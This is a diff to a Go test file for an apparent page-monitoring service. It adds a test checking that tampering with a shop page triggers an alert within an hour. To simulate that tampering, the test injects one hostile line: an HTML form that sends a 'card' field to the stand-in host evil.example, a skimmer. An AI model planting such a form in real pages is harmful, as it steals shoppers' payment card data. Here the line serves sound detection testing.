@@ -100,15 +100,16 @@ type watched struct {
 	t        *testing.T
 	p        dbtest.Pair
 	accepted map[string]time.Time
+	jobs     *job.Queue
 }
 
 func watch(t *testing.T, p dbtest.Pair, s *shop) *watched {
 	t.Helper()
-	w := &watched{t: t, p: p, accepted: map[string]time.Time{}}
+	w := &watched{t: t, p: p, accepted: map[string]time.Time{}, jobs: job.New(p.Data, slog.New(slog.DiscardHandler), 0)}
 	way := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: s.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs}}
 	t.Cleanup(way.CloseIdleConnections)
 	var err error
-	w.Service, err = pagewatch.New(pagewatch.Deps{DB: p.Data, Audit: audit.New(audit.Deps{DB: p.Data, Vault: vaulttest.New(t, p)}), Jobs: job.New(p.Data, slog.New(slog.DiscardHandler), 0), Public: s.URL, Way: way,
+	w.Service, err = pagewatch.New(pagewatch.Deps{DB: p.Data, Audit: audit.New(audit.Deps{DB: p.Data, Vault: vaulttest.New(t, p)}), Jobs: w.jobs, Public: s.URL, Way: way,
 		Source: source, Languages: []string{"en"}, Accepted: func(context.Context) (map[string]time.Time, error) { return w.accepted, nil }, Log: slog.New(slog.DiscardHandler)})
 	if err != nil {
 		t.Fatal(err)
@@ -241,4 +242,34 @@ func TestRightsAndRecords_V8_2_1(t *testing.T) {
 	if err != nil || len(list) == 0 || !list[0].Passed || list[0].Old(w.p.Clock.Now()) || !list[0].Old(w.p.Clock.Now().AddDate(0, 4, 0)) {
 		t.Errorf("%v %+v", err, list)
 	}
+}
+
+// Row 1: whenever somebody alters a page, the regular look tells within the hour.
+func TestTheAlarmComesWithinTheHour(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, p dbtest.Pair) {
+		s := openShop(t)
+		w := watch(t, p, s)
+		if err := w.Register(true); err != nil {
+			t.Fatal(err)
+		}
+		due := func() {
+			t.Helper()
+			if _, err := w.jobs.RunDue(t.Context()); err != nil {
+				t.Fatal(err)
+			}
+		}
+		due()
+		if n := w.number(`SELECT COUNT(*) FROM pagewatch_look WHERE outcome = 'same'`); n != 1 {
+			t.Fatalf("%d looks at the start", n)
+		}
+		p.Clock.Advance(time.Minute)
+		s.inject = `<form action="https://evil.example/card"><input name="card"></form>` // the worst moment: it has just been looked
+		for minute := 1; w.number(`SELECT COUNT(*) FROM job_queue WHERE kind = 'letter.pages'`) == 0; minute++ {
+			if minute > 60 {
+				t.Fatal("an hour has gone, and nobody was told")
+			}
+			p.Clock.Advance(time.Minute)
+			due()
+		}
+	})
 }
